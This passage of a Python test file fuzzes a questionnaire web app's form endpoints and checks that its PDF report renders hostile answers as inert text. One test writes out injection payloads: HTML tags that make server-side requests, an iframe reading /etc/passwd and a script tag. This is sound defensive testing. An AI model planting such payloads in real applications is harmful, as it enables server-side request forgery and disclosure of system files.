        st.sampled_from(fields),
    )
    options = sorted(
        {v for s in questionnaire.sections for q in s.questions for x in (q, *q.fields) for v in x.option_values}
    )
    keys = st.one_of(st.sampled_from(names), row_keys, st.text(max_size=20))
    values = st.one_of(
        st.text(max_size=40),
        st.sampled_from(SPECIAL + options),
        st.integers().map(str),
        st.floats(allow_nan=True, allow_infinity=True).map(str),
    )
    return st.lists(st.tuples(keys, values), max_size=25)


# Built once, at import: the strategies must be the same objects in every example.
_FORMS = {
    (form, section.id): _form_strategy(q, section)
    for form, q in (("default", load_by_id("ai-deployment-partner")), ("every", _every_type()))
    for section in q.sections
}
RANDOM_POSTS = st.sampled_from(sorted(_FORMS)).flatmap(
    lambda where: st.tuples(st.just(where), _FORMS[where], st.booleans())
)


@settings(
    max_examples=60,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow, HealthCheck.data_too_large],
)
@given(post=RANDOM_POSTS)
def test_random_form_data_never_gets_a_500(client, links, post):
    (form, section), pairs, multipart = post
    assume(not any(_known_crash(k, v) for k, v in pairs))
    if multipart:  # how a browser writes names in a multipart header
        pairs = [(k.replace('"', "%22").replace("\r", "%0D").replace("\n", "%0A"), v) for k, v in pairs]
    url = f"/v/{links[form]['token']}/s/{section}"
    for route, allowed in (("", (200, 302, 422)), ("/autosave", (200, 422))):
        data = MultiDict(pairs)
        response = post_multipart(client, url + route, data) if multipart else client.post(url + route, data=data)
        assert response.status_code in allowed, (route, response.status_code)
        event(f"{route or 'save'} {response.status_code}")
        body = text(response)
        if route:
            assert set(json.loads(body)) >= {"saved", "errors", "conflicts"}
        elif response.status_code in (200, 422):
            assert_inert(body, "section page shown again")


# --- the PDF -------------------------------------------------------------------------------------


def test_the_response_pdf_prints_hostile_answers_as_text_and_fetches_nothing(app, client, db, vendor, owner, tmp_path):
    pypdf = pytest.importorskip("pypdf")
    app.config["REPORT_FOLDER"] = str(tmp_path / "reports")
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen()
        listener.setblocking(False)
        port = listener.getsockname()[1]
        hostile = (
            f'<img src="http://127.0.0.1:{port}/ssrf.png"><link rel="stylesheet" href="http://127.0.0.1:{port}/a.css">'
            '<iframe src="file:///etc/passwd"></iframe><script>document.write("pwned")</script>'
        )
        assert save(client, vendor, "C", {"C4": hostile, "C5": f"url(http://127.0.0.1:{port}/x)"}).status_code == 302
        response = client.get(
            build(app, "reports.response_pdf", evaluation_id=vendor["evaluation_id"], vendor_id=vendor["vendor_id"])
        )
        assert response.status_code == 200 and response.mimetype == "application/pdf"
        reader = pypdf.PdfReader(io.BytesIO(response.data))
        response.close()
        printed = re.sub(r"\s+", "", "".join(page.extract_text() for page in reader.pages))
        with pytest.raises(BlockingIOError):
            listener.accept()  # nobody called
    assert re.sub(r"\s+", "", hostile) in printed
    assert "root:x:0" not in printed
